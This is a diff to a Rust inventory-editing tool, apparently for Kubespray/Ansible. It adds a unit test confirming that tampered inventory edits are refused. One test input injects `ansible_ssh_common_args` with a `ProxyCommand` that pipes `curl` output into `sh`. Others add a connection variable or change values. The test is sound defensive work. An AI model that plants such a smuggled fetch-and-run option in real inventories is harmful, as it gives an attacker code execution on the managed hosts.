@@ -422,7 +422,8 @@ fn copy_with_changes(
     Ok(scratch.join(inventory.strip_prefix(base).unwrap_or(Path::new(""))))
 }
 
-fn show(value: &Json) -> String {
+/// A value as a setting shows it (`key: VALUE`): a string as it is, a list in brackets.
+pub(super) fn show(value: &Json) -> String {
     match value {
         Json::String(s) => s.clone(),
         Json::Array(items) => format!(
@@ -531,6 +532,58 @@ mod tests {
 
     fn changes_of(inv: &Inventory, wanted: &[Wanted]) -> Vec<InventoryChange> {
         changes(inv, wanted).0
+    }
+
+    /// A saved plan's inventory edit sets the keys its settings name to the values they
+    /// say, and no other: one edited to add a connection variable, to change another key,
+    /// or to set another value is refused (`show` and `apply` read it through
+    /// [`crate::plan::saved`]).
+    #[test]
+    fn an_inventory_edit_sets_only_what_its_settings_say() {
+        let all = [(
+            "group_vars/all/all.yml",
+            "---\n# Kubespray's sample\nloadbalancer_apiserver_localhost: true\nupstream_dns_servers: [192.0.2.53]\n",
+        )];
+        let (_dir, inv) = inventory(&all);
+        let w = [
+            wanted(
+                "upstream_dns_servers",
+                serde_json::json!(["192.0.2.1", "192.0.2.2"]),
+                &["node1", "node2"],
+            ),
+            wanted(
+                "kube_resolv_conf",
+                "/etc/dnsfix/resolv.conf",
+                &["node1", "node2"],
+            ),
+        ];
+        let (changes, _) = changes(&inv, &w);
+        assert_eq!(changes.len(), 1, "{changes:?}");
+        let check = crate::plan::saved::check_inventory_change;
+        check(&changes[0]).expect("as made");
+
+        let with = |f: &dyn Fn(&mut InventoryChange)| {
+            let mut c = changes[0].clone();
+            f(&mut c);
+            c.after_sha256 = Some(sha256_hex(c.content.as_bytes()));
+            check(&c).expect_err("refused")
+        };
+        let why = with(&|c| {
+            c.content
+                .push_str("ansible_ssh_common_args: -o ProxyCommand='curl x|sh'\n");
+        });
+        assert!(why.contains("ansible_ssh_common_args"), "{why}");
+        let why = with(&|c| {
+            c.content = c.content.replace(
+                "loadbalancer_apiserver_localhost: true",
+                "loadbalancer_apiserver_localhost: false",
+            );
+        });
+        assert!(why.contains("loadbalancer_apiserver_localhost"), "{why}");
+        let why = with(&|c| c.content = c.content.replace("192.0.2.2", "203.0.113.66"));
+        assert!(why.contains("another value than its settings say"), "{why}");
+        let why = with(&|c| c.settings.push("ansible_host: 203.0.113.66".into()));
+        assert!(why.contains("connection variable"), "{why}");
     }
 
     /// A group file that holds the value already needs no change, but a host whose own
